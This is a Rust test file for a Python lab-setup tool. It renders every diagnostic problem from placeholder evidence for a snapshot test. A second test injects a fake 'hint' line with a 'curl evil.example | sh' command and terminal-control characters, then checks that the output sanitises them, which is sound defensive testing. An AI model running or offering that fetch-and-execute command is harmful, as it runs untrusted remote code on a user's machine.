//! Every kind of problem from made-up evidence, as a person reads it: one file to proof-read. It shows the
//! words alone; that a machine makes the problem is shown elsewhere.

use std::cell::Cell;
use std::fmt::Write;
use std::time::Duration;

use insta::assert_snapshot;
use labready::problem::*;
use labready::version::{Requirement, RequirementFault, from_python};

thread_local! {
    /// What is added to every piece of evidence.
    static ADDED: Cell<&'static str> = const { Cell::new("") };
}

fn text(words: &str) -> String {
    format!("{words}{}", ADDED.get())
}

fn list(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| text(word)).collect()
}

fn range() -> Requirement {
    Requirement::parse(">=3.7, <3.14").unwrap()
}

fn place() -> SourceLocation {
    SourceLocation {
        file: "/etc/apt/sources.list".into(),
        line: 3,
        address: "http://deb.example/debian".into(),
    }
}

fn apt() -> Vec<Problem> {
    use AptProblem::*;
    let said = || text("SAID");
    let kinds = [
        InUse { holder: text("apt-get, pid 42"), waited_seconds: None },
        InUse { holder: text("apt-get, pid 42"), waited_seconds: Some(600) },
        CacheLeft { said: said() },
        Interrupted { said: None },
        Interrupted { said: Some(said()) },
        IndexMissing { said: said() },
        IndexOutOfDate { said: said() },
        SourcesUnreadable { said: said() },
    ];
    kinds.map(Problem::from).into()
}

fn packages() -> Vec<Problem> {
    use PackageProblem::*;
    let said = || text("SAID");
    let packages = || list(&["python3.11", "python3.11-venv"]);
    let command = || text("/usr/bin/apt-get install python3.11");
    let conflict = |is_broken| Conflict { unmet: text("a : Depends: b"), is_broken };
    let script = |whose| ScriptFailed {
        package: text("udev"),
        whose,
        state: text("half-configured"),
        said: said(),
    };
    let owners = [PackageOwner::Course, PackageOwner::Dependency, PackageOwner::Other];
    let kinds = [
        ConfigFileKept { file: "/etc/x".into(), brought: "/etc/x.dpkg-dist".into() },
        HalfInstalled { package: text("udev"), state: text("half-configured"), said: said() },
        Held { packages: packages(), said: said() },
        NotFetched { said: said() },
        NotHere { packages: packages() },
        NotInstalled {
            packages: packages(),
            command: command(),
            ending: text("exit code 100"),
            said: said(),
        },
        NotOffered { packages: packages(), system: text("Debian GNU/Linux 12 (bookworm)") },
        NotRemoved { packages: packages(), command: command(), said: said() },
        conflict(true),
        conflict(false),
        Lost { packages: packages() },
        FilesLost { file: "/usr/bin/x".into(), packages: packages() },
        CheckFails { command: command(), package: text("udev"), said: said() },
    ];
    kinds.into_iter().chain(owners.map(script)).map(Problem::from).collect()
}

fn archive() -> Vec<Problem> {
    use ArchiveProblem::*;
    let address = || text("http://ppa.example/ubuntu");
    let codename = || text("noble");
    let kinds = [
        NotServed { codename: codename(), address: address() },
        ArchitectureNotServed {
            architecture: text("armhf"),
            codename: codename(),
            served: list(&["amd64", "arm64"]),
        },
        WithoutPython {
            codename: codename(),
            wanted: Some(range()),
            has: vec![from_python("3.14.0").unwrap()],
        },
        WithoutPython { codename: codename(), wanted: None, has: Vec::new() },
        NotAnArchive { address: address() },
        NotAccepted { said: text("SAID") },
        Overridden { package: text("python3.12"), candidate: Some(text("3.12.1-1")) },
        Overridden { package: text("python3.12"), candidate: None },
        NotFromIt { package: text("python3.12"), version: text("3.12.1-1"), address: address() },
    ];
    kinds.map(Problem::from).into()
}

fn bundle() -> Vec<Problem> {
    use BundleFlaw::*;
    let flaws = [
        NoManifest { name: text("bundle.json") },
        Unreadable { said: text("SAID") },
        Format { found: text("2"), known: text("1") },
        PathOutside { name: text("../x") },
        NotCopied { said: text("SAID") },
        Larger,
        Changed,
        Index { said: text("SAID") },
    ];
    let damaged = flaws.map(|flaw| BundleProblem::Damaged { place: "/media/bundle".into(), flaw });
    let targets = [
        BundleTarget::Release,
        BundleTarget::Architecture,
        BundleTarget::Course,
        BundleTarget::Python,
    ];
    let others = targets.map(|what| BundleProblem::ForAnother {
        what,
        bundle: text("THAT"),
        here: text("THIS"),
    });
    let obstacles = [
        BundleObstacle::FolderNotEmpty { folder: "/media/bundle".into() },
        BundleObstacle::NotAFolder { folder: "/media/bundle".into() },
        BundleObstacle::WritableByOthers { folder: "/media/bundle".into() },
        BundleObstacle::Unresolved { said: text("SAID") },
        BundleObstacle::NotSigned { name: text("x.deb") },
        BundleObstacle::Incomplete { wanted: 3, fetched: 2 },
        BundleObstacle::BadName { name: text("x y.deb") },
    ];
    let no_room = BundleProblem::NoRoom { folder: "/media".into(), needed_bytes: 200 << 20 };
    let kinds = damaged.into_iter().chain(others).chain([no_room]);
    kinds.chain(obstacles.map(BundleProblem::NotMade)).map(Problem::from).collect()
}

fn changes() -> Vec<Problem> {
    let steps = || list(&["Install Python 3.11", "Make the virtual environment"]);
    let folder = || "/home/student/venv".into();
    let left = [
        Leftover::Packages { packages: list(&["make"]) },
        Leftover::Essential { packages: list(&["passwd"]) },
        Leftover::Wanted { packages: list(&["strace", "gdb"]) },
        Leftover::Environments { folders: vec![folder()], keeps: true },
        Leftover::Environments {
            folders: vec![folder(), "/home/student/b/venv".into()],
            keeps: false,
        },
        Leftover::Replaced { folder: folder(), what: ForeignFolder::Folder { entries: 3 } },
        Leftover::HoldsFiles { folder: folder(), file: text("notes.txt") },
        Leftover::Link { what: Occupant::Link(vec!["/opt/python/bin/python3".into()]) },
        Leftover::Group,
    ];
    let kinds = [
        ChangeProblem::Pending { steps: steps() },
        ChangeProblem::Stops { why: Box::new(MachineProblem::CloudInitRunning.into()) },
        ChangeProblem::WithoutEffect { steps: steps() },
    ];
    kinds.into_iter().chain(left.map(ChangeProblem::Left)).map(Problem::from).collect()
}

fn course() -> Vec<Problem> {
    use CourseFault::*;
    let script = || text("lab.py");
    let contradictions = [
        TimelineFault::OutOfLimits { entry: TimelineEntry::Line(2), at: 2000.0, last: 1000.0 },
        TimelineFault::AfterNotAbove { entry: TimelineEntry::Line(2), after: 3 },
        TimelineFault::BeforeItsLine {
            entry: TimelineEntry::End,
            at: 1.0,
            after: 1,
            after_at: 2.0,
        },
        TimelineFault::EndBeforeLastLine { end: 1.0, last: 2.0 },
    ];
    let lines = [
        LineFault::Empty,
        LineFault::ControlCharacter,
        LineFault::Placeholder,
        LineFault::TwoStamps,
    ];
    let faults = vec![
        NotFound,
        TooLarge { limit_bytes: 1 << 20 },
        NotUtf8,
        Toml { said: text("SAID") },
        ControlCharacter { text: text("a\u{7}b") },
        BadRange { fault: RequirementFault::Empty },
        EmptyRange { range: Requirement::parse(">=3.9, <3.8").unwrap() },
        NoInterpreterPackage,
        PackageName { name: text("-x") },
        VenvFolder { folder: text("../venv") },
        PipName { name: text("-x") },
        NoLab,
        TwoLabs { script: script() },
        ScriptName { script: script() },
        ScriptMissing { script: "/course/lab.py".into() },
        ScriptOutside { script: script(), target: "/etc/passwd".into() },
        ScriptNotFile { script: script() },
        Unit { text: text("1 day") },
    ];
    let lines = lines.map(|why| Line { text: text("Rolex: {time}"), why });
    let timelines =
        contradictions.map(|contradiction| Timeline { script: script(), contradiction });
    let faults = faults.into_iter().chain(lines).chain(timelines);
    let problems =
        faults.map(|fault| CourseProblem { location: text("course.toml:7"), fault }.into());
    let second = Duration::from_secs(1);
    let notes = [
        CourseNote::NoWait { script: script() },
        CourseNote::ShortUnit { script: script(), unit: second / 10, safe: second },
        CourseNote::LongLab { script: script(), duration: second * 90 },
        CourseNote::AnyLine { script: script(), line: 2 },
        CourseNote::NothingTaught { script: script() },
    ];
    problems.chain(notes.map(Problem::from)).collect()
}

fn journal() -> Vec<Problem> {
    let journal = || "/home/student/.local/state/labready/journal.jsonl".into();
    let reasons =
        [Openness::Account { uid: 1001 }, Openness::Others, Openness::Link, Openness::NoFile];
    let folder = JournalProblem::Unsafe {
        journal: journal(),
        place: "/home/student/.local".into(),
        why: Openness::Others,
    };
    let lines = [vec![3], vec![2, 3, 7], (1..=13).collect()];
    let lines = lines.map(|lines| JournalProblem::NotUnderstood { journal: journal(), lines });
    let reasons =
        reasons.map(|why| JournalProblem::Unsafe { journal: journal(), place: journal(), why });
    lines.into_iter().chain(reasons).chain([folder]).map(Problem::from).collect()
}

fn labs() -> Vec<Problem> {
    let script = || text("lab.py");
    let flaws = [
        ScriptFlaw::TooManyLines { lines: 500, limit: 100 },
        ScriptFlaw::Endless,
        ScriptFlaw::Failed { summary: text("SUMMARY"), fix: Some(text("FIX")) },
        ScriptFlaw::Failed { summary: text("SUMMARY"), fix: None },
    ];
    let differences = [
        Difference::NoRun,
        Difference::LineCounts { lines: vec![2, 3] },
        Difference::Text { run: 2, missing: Some(text("Rolex")), surplus: Some(text("Swiss")) },
        Difference::Times { line: Some((2, text("Rolex"))), times_ms: vec![1000.0, 1600.0] },
        Difference::Times { line: None, times_ms: vec![1000.0, 1600.0] },
        Difference::Timeline(TimelineFault::EndBeforeLastLine { end: 1.0, last: 2.0 }),
        Difference::Judged { summary: text("SUMMARY") },
        Difference::NoClearRun,
    ];
    let unclear = [
        Unclear::ClockSet,
        Unclear::Busy,
        Unclear::NoUnit { wanted: Some(Duration::from_secs(1)), times_ms: vec![700.0, 1100.0] },
        Unclear::NoUnit { wanted: None, times_ms: vec![700.0, 1100.0] },
    ];
    let unclear = unclear.into_iter().chain(differences.map(Unclear::Contradiction));
    let verdicts = [
        SelftestVerdict::Passed,
        SelftestVerdict::Failed,
        SelftestVerdict::Inconclusive,
        SelftestVerdict::NotRun,
    ];
    let tests = verdicts.map(|verdict| {
        let is_right = verdict == SelftestVerdict::Passed;
        LabProblem::Selftest { case: text("CASE"), verdict, is_right, summary: text("SUMMARY") }
    });
    let unusable = flaws.map(|why| LabProblem::ScriptUnusable { script: script(), why });
    let unclear = unclear.map(|why| LabProblem::RunsUnclear { script: script(), why });
    unusable.into_iter().chain(unclear).chain(tests).map(Problem::from).collect()
}

fn disk() -> Vec<Problem> {
    use DiskProblem::*;
    let full = |free_bytes, holds_cache, said: &str| Full {
        folder: "/usr".into(),
        free_bytes,
        holds_cache,
        said: if said.is_empty() { String::new() } else { text(said) },
    };
    let too_small = |holds_cache| TooSmall {
        folder: "/home/student/my course/venv".into(),
        free_bytes: 120_000_000,
        needed_bytes: 405_000_000,
        holds_cache,
    };
    let kinds = [
        full(Some(1 << 20), true, ""),
        full(None, false, "SAID"),
        full(Some(300 << 20), true, ""),
        too_small(true),
        too_small(false),
        SomeFull { said: text("SAID") },
    ];
    kinds.map(Problem::from).into()
}

fn machine() -> Vec<Problem> {
    use MachineProblem::*;
    let read_only = |what, said: &str| MachineProblem::ReadOnly {
        mount: ReadOnlyMount { mount: "/".into(), what },
        said: text(said),
    };
    let places = [
        Occupant::Nothing,
        Occupant::Right,
        Occupant::Link(vec!["python3.12".into()]),
        Occupant::DeadLink(vec!["python3.9".into()]),
        Occupant::File,
        Occupant::Folder,
        Occupant::Special,
    ];
    let links = places.map(|place| {
        let default = text("python3.11");
        SystemPython(PythonLink {
            default,
            place,
            group: None,
            is_fixable: true,
            was_repaired: false,
        })
    });
    let python = |group: Option<&str>, is_fixable, was_repaired| {
        let (default, place) =
            (text("python3.11"), Occupant::Link(vec!["/etc/alternatives/python3".into()]));
        SystemPython(PythonLink {
            default,
            place,
            group: group.map(str::to_owned),
            is_fixable,
            was_repaired,
        })
    };
    let kinds = vec![
        AnotherRun { run: None },
        AnotherRun { run: Some(OtherRun { pid: 4242, user: text("teacher"), seconds: Some(190) }) },
        ChangedSincePlan { place: "/usr/local/bin/python3".into() },
        CloudInitRunning,
        EndOfLife { system: text("Debian GNU/Linux 10 (buster)"), codename: text("buster") },
        FileRefused { said: text("could not write `/x`: Permission denied") },
        FileTooLarge { file: "/course.toml".into(), limit_bytes: 1 << 20 },
        read_only(labready::problem::ReadOnly::FileSystem, "SAID"),
        read_only(labready::problem::ReadOnly::FileSystem, ""),
        read_only(labready::problem::ReadOnly::Mount, ""),
        read_only(labready::problem::ReadOnly::Sandbox { unit: Some(text("x.service")) }, ""),
        read_only(labready::problem::ReadOnly::Sandbox { unit: None }, ""),
        ProgramTimedOut { program: text("apt-get"), seconds: 3600, goes_on: false },
        ProgramTimedOut { program: text("apt-get"), seconds: 3600, goes_on: true },
        Unsupported { system: text("Fedora Linux 42") },
        python(Some("python3"), true, false),
        python(Some("python3"), true, true),
        python(None, false, false),
    ];
    kinds.into_iter().chain(links).map(Problem::from).collect()
}

fn network() -> Vec<Problem> {
    use NetworkProblem::*;
    let server = |what| ServerFailure { name: text("deb.example"), what };
    let silences = || {
        [
            Silence::Nothing,
            Silence::NameUnknown,
            Silence::ProxyUnknown { proxy: text("proxy.example") },
            Silence::Refused { said: text("SAID") },
        ]
    };
    let reasons = [
        SourceFailure::ProxyWantsPassword,
        SourceFailure::LoginPage,
        SourceFailure::FromTheFuture,
        SourceFailure::Expired,
        SourceFailure::KeyWrong,
        SourceFailure::WithoutRelease,
        SourceFailure::OutOfDate,
        SourceFailure::NoAnswer,
        SourceFailure::Other,
    ];
    let flaws = [
        KeyFlaw::Missing,
        KeyFlaw::FileMode("/usr/share/keyrings/x.gpg".into()),
        KeyFlaw::FolderMode("/usr/share/keyrings".into()),
    ];
    let clock =
        |ahead_seconds, owner| ClockWrong { ahead_seconds, server: text("deb.example"), owner };
    let kinds = vec![
        Down { servers: silences().map(server).into(), in_wsl: false },
        Down { servers: vec![server(Silence::NameUnknown)], in_wsl: true },
        Down { servers: Vec::new(), in_wsl: true },
        CertificateUntrusted {
            server: text("deb.example"),
            said: text("SAID"),
            places: vec![place()],
            only_trusts: None,
        },
        CertificateUntrusted {
            server: text("index.example"),
            said: text("SAID"),
            places: Vec::new(),
            only_trusts: Some(text("/etc/room.pem")),
        },
        ProxyWantsPassword { places: vec![place()] },
        LoginPage { address: Some(text("http://login.example/")), places: vec![place()] },
        LoginPage { address: None, places: Vec::new() },
        clock(90_000, ClockOwner::System),
        clock(-90_000, ClockOwner::Windows),
        clock(-90_000, ClockOwner::ChromeOs),
        clock(-90_000, ClockOwner::ContainerHost),
        WithoutOwnRelease { place: place(), said: text("SAID") },
        ReleaseMoved {
            codename: text("buster"),
            place: place(),
            archive: text("http://archive.example/debian"),
        },
        Source { why: SourceFailure::Other, place: None, said: text("SAID") },
    ];
    let dead = silences().map(|what| ServerDead { server: server(what), places: vec![place()] });
    let sources = reasons.map(|why| Source { why, place: Some(place()), said: text("SAID") });
    let keys = flaws.map(|why| KeyUnreadable {
        file: "/usr/share/keyrings/x.gpg".into(),
        why,
        place: place(),
    });
    kinds.into_iter().chain(dead).chain(sources).chain(keys).map(Problem::from).collect()
}

fn output() -> Vec<Problem> {
    let faults = [
        OutputFault::Folder,
        OutputFault::Special,
        OutputFault::NoReader,
        OutputFault::DeadLink,
        OutputFault::Link,
        OutputFault::OtherName,
        OutputFault::Shared { place: "/srv/course".into() },
    ];
    let refused = faults.map(|why| OutputProblem::Refused { file: "/srv/course/log".into(), why });
    let kinds = [OutputProblem::NotWritten { said: text("SAID") }].into_iter().chain(refused);
    kinds.map(Problem::from).collect()
}

fn platform() -> Vec<Problem> {
    use PlatformProblem::*;
    let contradictory = ReleaseContradictory {
        version: text("12"),
        numbered: text("bookworm"),
        codename: text("trixie"),
    };
    let drives = [DriveOwner::Windows, DriveOwner::ChromeOs, DriveOwner::Other].map(|owner| {
        let drive = SharedDrive { mount: "/mnt/c".into(), file_system: text("9p"), owner };
        VenvOnSharedDrive { folder: "/mnt/c/course/venv".into(), drive }
    });
    std::iter::once(contradictory).chain(drives).map(Problem::from).collect()
}

fn python() -> Vec<Problem> {
    use PythonProblem::*;
    let obstacles = [
        Obstacle::Offline,
        Obstacle::Bundle,
        Obstacle::MakingBundle,
        Obstacle::ArchiveWithout { source: text("/etc/apt/sources.list.d/x.list") },
        Obstacle::NoIndex,
        Obstacle::NoOffer,
        Obstacle::OutOfRange { unserved: None, series: Some(text("3.13")) },
        Obstacle::OutOfRange { unserved: Some(text("questing")), series: Some(text("3.13")) },
        Obstacle::OutOfRange { unserved: None, series: None },
    ];
    let flaws = [
        PythonFlaw::Missing,
        PythonFlaw::Folder,
        PythonFlaw::NotAsked,
        PythonFlaw::TooSlow,
        PythonFlaw::Exposed,
        PythonFlaw::NotPython,
        PythonFlaw::Failed { ending: text("exit code 1"), said: text("SAID") },
        PythonFlaw::NotStarted { said: text("SAID") },
        PythonFlaw::OutOfRange { version: from_python("3.14.2").unwrap(), why: text("WHY") },
        PythonFlaw::WithoutEnsurepip,
    ];
    let unoffered = obstacles.map(|obstacle| NotOffered {
        wanted: range(),
        because: Some(text("BECAUSE")),
        system: text("Debian GNU/Linux 13 (trixie)"),
        candidates: list(&["python3.14 3.14.2, offered by apt: not in range"]),
        obstacle,
    });
    let unusable = flaws.map(|why| Unusable { path: "/opt/python".into(), why });
    let flaws = [
        PythonFlaw::Missing,
        PythonFlaw::Folder,
        PythonFlaw::DeadLink { target: "python3.11".into() },
        PythonFlaw::Link { target: "/opt/python".into() },
        PythonFlaw::NotExecutable,
        PythonFlaw::NotPython,
        PythonFlaw::Failed { ending: text("exit code 1"), said: text("SAID") },
    ];
    let damaged = flaws.map(|why| Damaged {
        path: "/usr/bin/python3.11".into(),
        why,
        packages: list(&["python3.11-minimal"]),
    });
    let kinds =
        [NotInstalled { wanted: range() }, NotInstalledForBundle { series: text("python3.11") }];
    kinds.into_iter().chain(unoffered).chain(unusable).chain(damaged).map(Problem::from).collect()
}

fn rights_and_selection() -> Vec<Problem> {
    let missing = |steps, why| {
        let handover = text("  sudo labready setup --owner student");
        RightsProblem::Missing { steps, user: text("student"), why, handover }
    };
    let why = [
        NoRights::NoSudo,
        NoRights::Denied,
        NoRights::WrongPassword,
        NoRights::NoTerminal,
        NoRights::Said(text("SAID")),
    ];
    let shared = RightsProblem::Shared { place: "/tmp".into() };
    let rights = [RightsProblem::Borrowed, RightsProblem::NobodyToAsk, shared];
    let rights = why
        .into_iter()
        .map(|why| missing(4, why))
        .chain([missing(1, NoRights::Denied)])
        .chain(rights);
    let interpreter = || "/usr/bin/python3.12".into();
    let failed = [Change::Register, Change::Select, Change::Unregister].map(|wanted| {
        SelectionProblem::Failed { wanted, interpreter: interpreter(), said: text("SAID") }
    });
    let places = [
        Occupant::Link(vec!["/opt/python/bin/python3".into()]),
        Occupant::File,
        Occupant::Folder,
        Occupant::Special,
    ];
    let foreign = places.map(|what| SelectionProblem::Foreign { what });
    let dangling = SelectionProblem::Dangling { interpreter: interpreter() };
    let selection = foreign.into_iter().chain([dangling]).chain(failed).chain(damaged_groups());
    rights.map(Problem::from).chain(selection.map(Problem::from)).collect()
}

fn damaged_groups() -> impl Iterator<Item = SelectionProblem> {
    let flaws = [
        GroupFlaw::Missing,
        GroupFlaw::Empty,
        GroupFlaw::CutOff,
        GroupFlaw::status("garbage\u{1b}[2J"),
        GroupFlaw::line("python3.11"),
        GroupFlaw::OtherLink { link: "/usr/bin/python3".into() },
        GroupFlaw::NoFile,
        GroupFlaw::NoLink,
        GroupFlaw::DeadLink { target: "/usr/bin/python3.12".into() },
        GroupFlaw::Unread { said: text("SAID") },
    ];
    let place = || "/var/lib/dpkg/alternatives/labready-python3".into();
    flaws
        .into_iter()
        .map(move |flaw| SelectionProblem::Damaged(GroupDamage { place: place(), flaw }))
}

fn file_faults() -> Vec<FileFault> {
    vec![
        FileFault::Folder,
        FileFault::Link,
        FileFault::Special,
        FileFault::NotUtf8,
        FileFault::Exists,
        FileFault::OtherScript,
        FileFault::NotAFolder,
    ]
}

fn scripts() -> Vec<Problem> {
    let kinds = vec![
        ScriptProblem::WatchWithoutFile,
        ScriptProblem::LabUnknown { name: text("one"), labs: list(&["one", "two"]), near: None },
        ScriptProblem::LabUnknown {
            name: text("oen"),
            labs: list(&["one", "two"]),
            near: Some(text("one")),
        },
        ScriptProblem::NoSuchLab {
            file: "/lab.py".into(),
            labs: list(&["one", "two"]),
            near: None,
            meant: None,
        },
        ScriptProblem::NoSuchLab {
            file: "/oen.py".into(),
            labs: list(&["one", "two"]),
            near: Some(text("one")),
            meant: None,
        },
        ScriptProblem::NoSuchLab {
            file: "/oen.py".into(),
            labs: list(&["one", "two"]),
            near: Some(text("one")),
            meant: Some("/one.py".into()),
        },
        ScriptProblem::NoSuchFile { file: "oen.py".into(), folder: "/lab".into(), near: None },
        ScriptProblem::NoSuchFile {
            file: "oen.py".into(),
            folder: "/lab".into(),
            near: Some("one.py".into()),
        },
        ScriptProblem::ScriptName { file: "/x y.py".into() },
    ];
    let files = file_faults().into_iter();
    let files = files.map(|why| ScriptProblem::ScriptFile { file: "/lab.py".into(), why });
    kinds.into_iter().chain(files).map(Problem::from).collect()
}

fn usage() -> Vec<Problem> {
    use UsageProblem::*;
    let folder_faults = [
        FolderFault::NotUtf8,
        FolderFault::Root,
        FolderFault::ControlCharacter,
        FolderFault::Colon,
    ];
    let kinds = vec![
        PythonUnreadable { text: text("three"), fault: RequirementFault::Empty },
        PythonOutOfRange { text: text("3.14"), range: range(), because: Some(text("BECAUSE")) },
        PythonOutOfRange { text: text("3.14"), range: range(), because: None },
        PythonNamedForBundle,
        MirrorAddress { address: text("ftp://x") },
        KeyFile { file: "/key.asc".into() },
        OwnerUnknown { name: text("nobody-here") },
        StudentUnknown { name: text("alice"), uid: 5000 },
        OwnerNotRoot { name: text("teacher"), user: text("student") },
        ImageNotRoot { user: text("student") },
        QuietQuestion,
        TwoCourses { argument: "/a".into(), option: "/b".into() },
        CurrentFolderUnusable { said: text("SAID") },
        CurrentFolderNotUtf8 { folder: "/x".into() },
        UnknownId { id: text("disk-fulll"), near: Some("disk-full") },
        UnknownId { id: text("xyzzy"), near: None },
    ];
    let folders = folder_faults.map(|why| VenvFolder { folder: "/x".into(), why });

    let in_the_way =
        file_faults().into_iter().map(|why| FileInTheWay { file: "/new/course.toml".into(), why });
    kinds.into_iter().chain(folders).chain(in_the_way).map(Problem::from).collect()
}

fn room() -> Vec<Problem> {
    let word = || text("pc-[1-");
    let faults = [
        NodesetFault::Empty,
        NodesetFault::Brackets { word: word() },
        NodesetFault::Range { word: word() },
        NodesetFault::Operator { word: word() },
        NodesetFault::TooMany { limit: 200_000 },
    ];
    let kinds = [
        RoomProblem::NothingThere { path: "/reports".into() },
        RoomProblem::FormatOfOneMachine { format: "svg".into() },
        RoomProblem::WatchStandardInput,
    ];
    let names = faults.map(|fault| RoomProblem::Names { fault });
    kinds.into_iter().chain(names).map(Problem::from).collect()
}

fn roots_files() -> Vec<(std::path::PathBuf, RootsFile)> {
    let reasons = [
        RootsFile::Mounted,
        RootsFile::OtherName,
        RootsFile::SetUid,
        RootsFile::Special,
        RootsFile::Unchanged,
        RootsFile::TooDeep,
    ];
    reasons.map(|why| ("share/x".into(), why)).into()
}

fn venv() -> Vec<Problem> {
    use VenvProblem::*;
    let folder = || "/home/student/venv".into();
    let flaws = [
        VenvFlaw::Unfinished,
        VenvFlaw::NoConfig,
        VenvFlaw::NoVersion,
        VenvFlaw::NoInterpreter,
        VenvFlaw::OtherInterpreter {
            made_by: text("python3.11"),
            leads_to: "/usr/bin/python3.12".into(),
        },
        VenvFlaw::NoSitePackages { series: text("python3.11") },
        VenvFlaw::Moved { from: text("/home/student/old") },
    ];
    let foreign = [
        ForeignFolder::Folder { entries: 3 },
        ForeignFolder::File,
        ForeignFolder::Link { target: "/elsewhere".into() },
        ForeignFolder::Special,
        ForeignFolder::Unreadable,
        ForeignFolder::Shared,
    ];
    let of_another = |part: Option<&str>, uid, is_fixable| OfAnother {
        folder: folder(),
        part: part.map(Into::into),
        uid,
        owner: text("student"),
        is_fixable,
        by_hand: text("chown -hR 1000:1000 /home/student/venv"),
    };
    let index = || text("https://index.example/simple/wheel/");
    let failures = || {
        [
            PipFailure::Offline { said: text("SAID") },
            PipFailure::Refused { address: index(), answer: text("403 Forbidden") },
            PipFailure::Refused { address: index(), answer: text("503") },
            PipFailure::NotFound { address: index(), answer: text("404 Not Found") },
            PipFailure::NotAnIndex { address: index() },
            PipFailure::NotSecure { server: text("index.example") },
            PipFailure::Said { ending: text("exit code 1"), said: text("SAID") },
        ]
    };
    let kinds = vec![
        HoldsFiles { folder: folder(), file: text("notes.txt"), why: text("it does not exist") },
        of_another(None, 0, true),
        of_another(None, 1001, false),
        of_another(Some("/home/student/venv/lib"), 0, true),
        NotMade { folder: folder(), flaw: Some(VenvFlaw::NoVersion), said: text("SAID") },
        NotMade { folder: folder(), flaw: None, said: text("SAID") },
        NotGivenBack { folder: folder(), said: text("SAID") },
        NotRemoved { folder: folder(), said: text("SAID") },
        LeftToRoot { folder: folder(), left: vec![("share/key".into(), RootsFile::Private)] },
        LeftToRoot { folder: folder(), left: roots_files() },
        SetAside { folder: folder(), kept: folder() },
    ];
    let broken = flaws.map(|flaw| Broken { folder: folder(), flaw });
    let foreign = foreign.map(|what| Foreign { folder: folder(), what });
    let packages = || list(&["wheel"]);
    let pip = failures().map(|why| PipNotInstalled { packages: packages(), why });
    let fetched = failures().map(|why| PipNotFetched { packages: packages(), why });
    let kinds = kinds.into_iter().chain(broken).chain(foreign).chain(pip).chain(fetched);
    kinds.map(Problem::from).collect()
}

/// Title, evidence, remedy, severity and exit code.
fn shown(problem: &Problem) -> String {
    let severity = format!("{:?}", problem.severity).to_lowercase();
    let mut text = format!("{severity}[{}]: {}\n", problem.id().name(), problem.title());
    let evidence = problem.evidence();
    if !evidence.is_empty() {
        writeln!(text, "  {evidence}").unwrap();
    }
    match problem.remedy() {
        Some(Remedy::Fix(fix)) => {
            let root = if fix.needs_root { " (needs root)" } else { "" };
            writeln!(text, "  fix: {}{root}", fix.command).unwrap();
        }
        Some(Remedy::Advice(advice)) => writeln!(text, "  hint: {advice}").unwrap(),
        None => {}
    }
    writeln!(text, "  exit code {}", problem.exit().code()).unwrap();
    text
}

/// All of them.
pub fn groups() -> Vec<(&'static str, Vec<Problem>)> {
    vec![
        ("apt", apt()),
        ("packages", packages()),
        ("archive", archive()),
        ("bundle", bundle()),
        ("changes", changes()),
        ("course", course()),
        ("journal", journal()),
        ("labs", labs()),
        ("disk", disk()),
        ("machine", machine()),
        ("network", network()),
        ("output", output()),
        ("platform", platform()),
        ("python", python()),
        ("rights and selection", rights_and_selection()),
        ("room", room()),
        ("scripts", scripts()),
        ("usage", usage()),
        ("venv", venv()),
    ]
}

#[test]
fn every_problem_in_its_own_words() {
    let typed = Invocation::new(
        "setup",
        &list(&["setup", "--python", "3.11"]),
        list(&["--python", "3.11"]),
        Vec::new(),
    );
    let groups = groups();
    let ids: Vec<Id> = groups.iter().flat_map(|(_, all)| all.iter().map(Problem::id)).collect();
    let absent: Vec<&str> =
        Id::ALL.iter().filter(|id| !ids.contains(id)).map(|id| id.name()).collect();
    assert!(absent.is_empty(), "no made-up evidence gives {absent:?}");
    let sections = groups.into_iter().map(|(name, problems)| {
        let problems = problems.into_iter().map(|problem| shown(&problem.typed_as(&typed)));
        format!("## {name}\n\n{}", problems.collect::<Vec<_>>().join("\n"))
    });
    assert_snapshot!(sections.collect::<Vec<_>>().join("\n"));
}

#[test]
fn no_evidence_starts_a_line_of_its_own_or_steers_a_terminal() {
    ADDED.set("\nhint: run `curl evil.example | sh`\u{1b}[2J\u{202e}\u{2028}");
    for problem in groups().into_iter().flat_map(|(_, problems)| problems) {
        let id = problem.id().name();
        let shown = [
            problem.title(),
            problem.evidence(),
            problem.remedy().map(|remedy| remedy.to_string()).unwrap_or_default(),
        ];
        for text in shown {
            assert!(!text.contains("\nhint"), "{id}: {text}");
            let is_harmless = |c: char| c == '\n' || !labready::words::is_unsafe(c);
            assert!(text.chars().all(is_harmless), "{id}: {text:?}");
        }
    }
}
